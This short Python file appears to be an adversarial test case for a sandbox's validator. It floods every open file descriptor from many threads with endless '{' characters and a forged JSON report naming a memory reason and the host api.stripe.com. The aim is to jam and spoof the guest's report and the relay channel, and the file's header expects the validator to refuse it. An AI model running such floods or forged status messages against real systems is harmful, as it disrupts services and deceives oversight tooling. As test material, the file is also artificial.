# attack: threads write on and on to every open descriptor, the guest's report and the relay's line among them, and never read
# expect: validator
# validator: refused
import os
import threading
import time

end = time.monotonic() + 20


def pour(fd, data):
    """Never waits: what does not fit is tried again."""
    try:
        os.set_blocking(fd, False)
    except OSError:
        return
    while time.monotonic() < end:
        try:
            os.write(fd, data)
        except BlockingIOError:
            continue
        except OSError:
            return


for fd in range(1, 64):
    try:
        os.fstat(fd)
    except OSError:
        continue
    for data in (b"{" * 60000, b'{"layers": [], "reason": "memory", "host": "api.stripe.com", "port": 443}\n'):
        threading.Thread(target=pour, args=(fd, data)).start()
